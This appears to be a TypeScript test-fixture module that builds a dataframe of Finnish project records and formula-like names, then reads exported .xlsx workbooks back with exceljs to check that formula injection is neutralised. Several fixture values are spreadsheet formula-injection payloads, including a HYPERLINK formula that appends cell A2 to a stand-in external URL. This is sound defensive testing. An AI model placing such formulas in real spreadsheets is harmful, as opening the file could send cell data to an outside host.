/**
 * What the workbook tests write and read: a projects frame of S11547, S22254
 * and names that look like formulas, and the workbook read back with
 * exceljs, cell by frame column.
 *
 * @module
 */
import { ok as assert } from "node:assert/strict";
import ExcelJS from "exceljs";
import type pl from "nodejs-polars";
import { z } from "zod";
import { frameFromRecords } from "../lib/frame/frame_from_records.ts";
import { CoImplementerSchema } from "../lib/schema.ts";

const TestProjectSchema = z.object({
  project_code: z.string().nullable(),
  name: z.string().nullable(),
  priority_axis_code: z.string().nullable(),
  specific_objective_code: z.string().nullable(),
  business_id: z.string().nullable(),
  postal_code: z.string().nullable(),
  start_date: z.iso.date().nullable(),
  participants_planned: z.int().nullable(),
  participants_actual: z.int().nullable(),
  participant_realisation: z.number().nullable(),
  funding_public_planned: z.number().nullable(),
  co_implementers: z.array(CoImplementerSchema),
  regions: z.array(z.string()),
  gender_analysis_done: z.boolean().nullable(),
  target_groups: z.string().nullable(),
});

const NULLS = {
  priority_axis_code: null,
  specific_objective_code: null,
  business_id: null,
  postal_code: null,
  start_date: null,
  participants_planned: null,
  participants_actual: null,
  participant_realisation: null,
  funding_public_planned: null,
  co_implementers: [],
  regions: [],
  gender_analysis_done: null,
  target_groups: null,
};

/** A name that Excel would take for a formula (a hyperlink) were it not written as text. */
export const HYPERLINK = '=HYPERLINK("http://example.invalid/?q="&A2,"Avaa")';

/** S11547 and S22254 as parsed (figures from `seeds_expected.ts`), then names that look like formulas. */
export function projects(): pl.DataFrame {
  return frameFromRecords(TestProjectSchema, [
    {
      project_code: "S11547",
      name: "Maahanmuuttajien osaaminen käyttöön (MOK)",
      priority_axis_code: "4",
      specific_objective_code: null,
      business_id: "2296962-1",
      postal_code: "70100",
      start_date: "2011-01-01",
      participants_planned: 199,
      participants_actual: 119,
      participant_realisation: 119 / 199,
      funding_public_planned: 645300,
      co_implementers: [],
      regions: ["Pohjois-Savo"],
      gender_analysis_done: null,
      target_groups: "- Pohjois-Savon sosiaali- ja terveysalan työnantajat",
    },
    {
      project_code: "S22254",
      name: "Jyväskylän Maahanmuuttaneiden osaamiskeskus",
      priority_axis_code: "3",
      specific_objective_code: "6.1",
      business_id: "0174666-4",
      postal_code: "00100",
      start_date: "2020-12-01",
      participants_planned: 400,
      participants_actual: null,
      participant_realisation: null,
      funding_public_planned: null,
      co_implementers: [{ name: "Paremmin Yhdessä ry", business_id: "2312333-7" }, {
        name: "Ilman tunnusta",
        business_id: null,
      }],
      regions: ["Keski-Suomi", "Uusimaa"],
      gender_analysis_done: true,
      target_groups: null,
    },
    { ...NULLS, project_code: "X1", name: "=1+1" },
    { ...NULLS, project_code: "X2", name: HYPERLINK },
    { ...NULLS, project_code: "X3", name: "+358 40 123 4567" },
    { ...NULLS, project_code: "X4", name: "@SUM(A1:A2)" },
    { ...NULLS, project_code: "X5", name: "\t=1+2" },
    { ...NULLS, project_code: "X6", name: "\r=1+3" },
    { ...NULLS, project_code: "X7", name: "Ohjaus\u0001merkki" },
  ]);
}

/** The workbook of `.xlsx` bytes, as exceljs reads it. */
export async function readBack(bytes: Uint8Array): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  // deno-lint-ignore no-explicit-any
  await workbook.xlsx.load(bytes as any);
  return workbook;
}

/** The cell of a column (by frame column name) on a 1-based data row. */
export function cellOf(sheet: ExcelJS.Worksheet, frame: pl.DataFrame, column: string, dataRow: number): ExcelJS.Cell {
  const index = frame.columns.indexOf(column);
  assert(index >= 0, `no column ${column}`);
  return sheet.getRow(dataRow + 1).getCell(index + 1);
}
